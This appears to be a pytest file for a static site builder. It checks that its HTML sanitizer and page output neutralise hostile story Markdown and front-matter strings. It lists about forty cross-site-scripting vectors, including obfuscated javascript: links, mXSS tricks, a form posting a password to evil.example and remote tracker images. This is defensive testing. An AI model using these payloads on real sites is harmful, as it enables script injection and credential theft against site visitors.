"""Stories cannot run script or reach outside the site: hostile Markdown and front matter."""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import Any

import lxml.etree
import lxml.html
import pytest

from conftest import AUTHORS, CAMPAIGNS, KPIS, NEWSLETTERS, TEAMS, Project
from site_browser import browser, serve
from storyhub.render import sanitize

# Each vector is written as a story author could: raw HTML or Markdown.
HOSTILE_MARKDOWN = {
    "script": "<script>pwned()</script>",
    "script-upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "img-onerror": "<img src=images/a.png alt=a onerror=pwned()>",
    "svg-script": "<svg><script>pwned()</script></svg>",
    "svg-onload": "<svg onload=pwned()><circle r=1 /></svg>",
    "math-style-mxss": "<math><mtext><table><mglyph><style><img src=images/a.png alt=a onerror=pwned()>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>pwned()</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
    "style-element": "<style>body { display: none }</style>",
    "style-attr": '<div style="position:fixed;inset:0;z-index:9999;background:red">overlay</div>',
    "base": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "js-link": '<a href="javascript:pwned()">js</a>',
    "js-link-mixed-case": '<a href="JaVaScRiPt:pwned()">js</a>',
    "js-link-tab-entity": '<a href="jav&#x09;ascript:pwned()">js</a>',
    "js-link-newline-entity": '<a href="java&#10;script:pwned()">js</a>',
    "js-link-leading-space": '<a href=" javascript:pwned()">js</a>',
    "js-link-entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:pwned()">js</a>',
    "data-link": '<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">data</a>',
    "vbscript-link": '<a href="vbscript:pwned()">vb</a>',
    "markdown-js-link": "[md](javascript:pwned())",
    "markdown-js-link-entity": "[md](jav&#x09;ascript:pwned())",
    "markdown-js-image": "![alt text](javascript:pwned())",
    "markdown-data-image": "![alt text](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT4=)",
    "attr-list-handler": 'Paragraph with attributes\n{: onclick="pwned()" style="color:red" }',
    "details-ontoggle": "<details open ontoggle=pwned()><summary>s</summary>x</details>",
    "noscript-mxss":
        '<noscript><p title="</noscript><img src=images/a.png alt=a onerror=pwned()>"></noscript>',
    "textarea-breakout": "<textarea></textarea><script>pwned()</script></textarea>",
    "template": "<template><script>pwned()</script></template>",
    "dom-clobber-config": '<div id="__config">{"base": "https://evil.example/"}</div>',
    "material-overlay-class": '<div class="md-dialog md-dialog--active">fake dialog</div>',
    "remote-image": '<img src="https://tracker.example/pixel.gif" alt="pixel">',
    "remote-image-markdown": "![pixel](//tracker.example/pixel.gif)",
    "srcset": '<img src="images/a.png" alt="a" srcset="https://tracker.example/p.gif 2x">',
    "comment-breakout": "<!-- --><script>pwned()</script> -->",
}
FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "form", "input", "button", "style", "svg",
                  "math", "base", "meta", "link", "template", "textarea", "noscript", "frame",
                  "frameset", "applet"}


def unsafe_parts(fragment: Any) -> list[str]:
    """Everything in a parsed fragment that could run script, restyle or leave the site."""
    found = []
    for element in fragment.iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag.lower() in FORBIDDEN_TAGS or element.tag.startswith("pwned"):
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            lowered = "".join(value.split()).lower()
            if name.lower().startswith("on") or name.lower() in ("style", "formaction"):
                found.append(f"{element.tag}[{name}]")
            if name == "srcset":  # the site's own responsive variants are fine, nothing remote
                urls = [c.split()[0] for c in value.split(",") if c.strip()]
                found += [f"{element.tag}[srcset={u}]" for u in urls
                          if u.lower().startswith(("http:", "https:", "//", "data:", "javascript:"))]
            if name in ("href", "src") and lowered.startswith(("javascript:", "data:", "vbscript:")):
                found.append(f"{element.tag}[{name}={value}]")
            if element.tag == "img" and name == "src" and lowered.startswith(("http:", "https:", "//")):
                found.append(f"remote image {value}")
            if name == "id" and value.startswith(("__", "md-")):
                found.append(f"reserved id {value}")
            if name == "class" and any(c.startswith("md-") for c in value.split()):
                found.append(f"theme class {value}")
    return found


@pytest.mark.parametrize("name", sorted(HOSTILE_MARKDOWN))
def test_sanitize_removes_each_hostile_construct(name: str) -> None:
    import markdown

    md = markdown.Markdown(extensions=["toc", "tables", "admonition", "attr_list"])
    clean = sanitize(md.convert(HOSTILE_MARKDOWN[name]))
    fragment = lxml.html.fragment_fromstring(clean, create_parent="div")
    assert unsafe_parts(fragment) == [], clean
    assert "pwned()" not in "".join(fragment.xpath(".//@*")), clean


def test_sanitize_keeps_ordinary_formatting() -> None:
    html = sanitize('<p><strong>b</strong> <a href="https://example.com/x">l</a> '
                    '<img src="images/a.png" alt="A"></p><table><tr><td colspan="2">c</td></tr></table>')
    assert '<a href="https://example.com/x" rel="noopener noreferrer">l</a>' in html
    assert '<img src="images/a.png" alt="A">' in html
    assert '<td colspan="2">c</td>' in html
    assert "<strong>b</strong>" in html


def test_sanitize_makes_remote_images_links_and_fixes_invalid_html() -> None:
    assert sanitize('<img src="https://t.example/p.gif" alt="Chart">') == \
        '<a href="https://t.example/p.gif" rel="noopener noreferrer">Chart</a>'
    assert sanitize('<img src="a.png">') == '<img alt="" src="a.png">'
    assert sanitize('<a href="javascript:x()">x</a>') == "<a>x</a>"  # rel needs an href
    assert sanitize('<h2 id="a">x</h2><h2 id="a">y</h2>') == '<h2 id="a">x</h2><h2>y</h2>'
    assert sanitize('<td width="50%" colspan="0" dir="sideways">x</td>') == "x"
    assert sanitize('<table><tr><td width="50%" colspan="0" dir="up">x</td></tr></table>') == \
        "<table><tbody><tr><td>x</td></tr></tbody></table>"


def png_bytes() -> bytes:
    from io import BytesIO

    from PIL import Image

    buffer = BytesIO()
    Image.new("RGB", (40, 30), "#3f51b5").save(buffer, "PNG")
    return buffer.getvalue()


def page_chrome(tree: Any, slug: str) -> list[str]:
    """Scripts, styles, links, head and form elements of a page, page-specific values normalised."""
    picked = tree.xpath("//script|//link|//style|//base|//meta|//iframe|//object|//embed|//form")
    return sorted(f"{e.tag} {sorted(e.attrib.items())} {(e.text or '')[:2000]}".replace(slug, "SLUG")
                  for e in picked if not (e.tag == "meta" and (e.get("name") or e.get("property"))))


def test_hostile_markdown_leaves_each_built_page_like_a_plain_one(project: Project) -> None:
    names = sorted(HOSTILE_MARKDOWN)
    project.add("hr/images/a.png", png_bytes())
    for number, name in enumerate(names):
        project.story("hr", f"2026-03-02-v{number}", title=f"Vector {name}", authors=["chloe"],
                      body=f"## Before {name}\n\n{HOSTILE_MARKDOWN[name]}")
    project.story("hr", "2026-03-01-plain", title="Plain", authors=["chloe"],
                  body="## Before plain\n\nJust text.")
    built = project.build()
    plain = page_chrome(built.html("stories/plain/"), "plain")
    for number, name in enumerate(names):
        page = built.html(f"stories/v{number}/")
        story_body = page.xpath("//div[@class='sh-story__body']")[0]
        assert unsafe_parts(story_body) == [], name
        assert story_body.xpath(".//@*[contains(., 'pwned')]") == [], name
        # Around the story, the page keeps exactly the plain page's scripts, styles and head.
        assert page_chrome(page, f"v{number}") == plain, name
        # Cleaning removed markup, not the content before it.
        assert story_body.xpath(".//h2/text()") == [f"Before {name}"], name


# Front matter and registry strings, each carrying markup that must stay text.
PAYLOAD = "\"'><pwned-x></pwned-x><script>pwned()</script><img src=x onerror=pwned()>"
SHORT = "<pwned-x></pwned-x><img src=x onerror=pwned()>"


def hostile_project(project: Project) -> None:
    def spiked(entries: list[dict[str, Any]], keys: tuple[str, ...]) -> list[dict[str, Any]]:
        return [{**e, **{k: f"{e.get(k, k)} {PAYLOAD}" for k in keys}} for e in entries]

    project.registry("teams", spiked(TEAMS, ("name", "description", "contact")))
    project.registry("kpis", spiked(KPIS, ("name", "description", "unit")))
    project.registry("authors", spiked(AUTHORS, ("name", "title")))
    project.registry("campaigns", spiked(CAMPAIGNS, ("name", "description", "audience")))
    project.registry("newsletters", spiked(NEWSLETTERS, ("title", "description")))
    project.story(
        "marketing", "2026-03-02-hostile", title=f"Title {PAYLOAD}", summary=f"Summary {PAYLOAD}",
        authors=["ana", "ben"], kpis=["nps", "csat"], featuring=["support"], campaign="spring",
        audience=SHORT, tags=["tag", SHORT], featured=True,
        inspired_by=[{"team": "support", "note": f"Note {PAYLOAD}"}],
        results={"nps": f"Result {PAYLOAD}", "csat": f"Also {PAYLOAD}"},
        body=f"Body mentions {PAYLOAD.replace('<', '&lt;')} as text.",
    )
    project.story("support", "2026-03-03-other", title="Other story", authors=["ben"],
                  kpis=["csat"], featuring=["marketing"])


def injected_html(text: str) -> list[str]:
    """Elements or attributes that only exist if the payload was parsed as markup."""
    tree = lxml.html.document_fromstring(text) if text.strip() else None
    if tree is None:
        return []
    found = [f"<{e.tag}>" for e in tree.iter() if isinstance(e.tag, str) and e.tag.startswith("pwned")]
    found += [f"script {s.text!r}" for s in tree.xpath("//script") if (s.text or "").strip() == "pwned()"]
    found += [f"{e.tag}[{k}]" for e in tree.iter() if isinstance(e.tag, str)
              for k, v in e.attrib.items() if k.startswith("on") and "pwned" in v]
    found += [f"img src={i.get('src')}" for i in tree.xpath("//img[@src='x']")]
    return found


def injected_anywhere(site: Path) -> dict[str, list[str]]:
    """Check every output file by type: HTML pages, XML feeds and sitemaps, JSON, Pagefind."""
    problems: dict[str, list[str]] = {}
    for path in sorted(site.rglob("*")):
        if not path.is_file():
            continue
        name = path.relative_to(site).as_posix()
        found: list[str] = []
        if path.suffix == ".html":
            found = injected_html(path.read_text("utf-8"))
        elif path.suffix == ".xml":
            root = lxml.etree.fromstring(path.read_bytes())  # must stay well-formed XML
            for element in root.iter():
                tag = lxml.etree.QName(element).localname if isinstance(element.tag, str) else ""
                html_carrier = tag in ("description", "encoded") or (
                    tag in ("content", "summary") and element.get("type") in ("html", "xhtml"))
                if html_carrier and element.text and "pwned" in element.text:
                    found += injected_html(f"<body>{element.text}</body>")
        elif path.suffix == ".json" and path.name != "search_index.json":
            data = json.loads(path.read_text("utf-8"))
            for item in data.get("items", []) if isinstance(data, dict) else []:
                found += injected_html(f"<body>{item.get('content_html') or ''}</body>")
        elif path.name.endswith(".pf_fragment"):
            # Pagefind keeps plain text (the search page shows it as text: checked in Chromium).
            fragment = json.loads(gzip.decompress(path.read_bytes()).removeprefix(b"pagefind_dcd"))
            assert isinstance(fragment.get("content"), str)
        if found:
            problems[name] = found
    return problems


def test_front_matter_and_registry_strings_stay_text_in_every_output(project: Project) -> None:
    hostile_project(project)
    built = project.build()
    assert injected_anywhere(built.site) == {}
    page = built.html("stories/hostile/")
    assert page.xpath("//h1")[0].text_content() == f"Title {PAYLOAD}"
    assert page.xpath("//title")[0].text.startswith(f"Title {PAYLOAD}")
    text = page.xpath("//article[contains(@class,'sh-story')]")[0].text_content()
    for shown in (f"Note {PAYLOAD}", f"Result {PAYLOAD}", f"Ana Lima {PAYLOAD}",
                  f"Content lead {PAYLOAD}", f"Spring launch {PAYLOAD}", SHORT):
        assert shown in text
    home = built.html("")
    assert f"Summary {PAYLOAD}" in home.text_content()


def test_hostile_strings_run_no_script_in_chromium(project: Project) -> None:
    hostile_project(project)
    built = project.build()
    pages = sorted(p.relative_to(built.site).as_posix() for p in built.site.rglob("*.html"))
    calls: dict[str, Any] = {}
    with serve(built.site) as base, browser() as chromium:
        page = chromium.new_page()
        page.add_init_script("window.pwned = () => { window.__pwnedCalls = (window.__pwnedCalls||0) + 1 }")
        page.on("dialog", lambda dialog: dialog.dismiss())
        for path in pages:
            page.goto(base + path, wait_until="load")
            state = page.evaluate("[window.__pwnedCalls || 0, document.querySelectorAll("
                                  "'pwned-x').length]")
            if state != [0, 0]:
                calls[path] = state
        if "search/index.html" in pages:
            # Search results show titles and excerpts taken from the hostile strings.
            page.goto(base + "search/?q=pwned", wait_until="load")
            page.wait_for_selector(".sh-hits li", timeout=15_000)
            state = page.evaluate("[window.__pwnedCalls || 0, document.querySelectorAll("
                                  "'pwned-x, .sh-hits img').length]")
            if state != [0, 0]:
                calls["search/?q=pwned"] = state
            titles = page.locator(".sh-hits li a").all_text_contents()
            assert f"Title {PAYLOAD}" in titles
    assert len(pages) > 5
    assert calls == {}
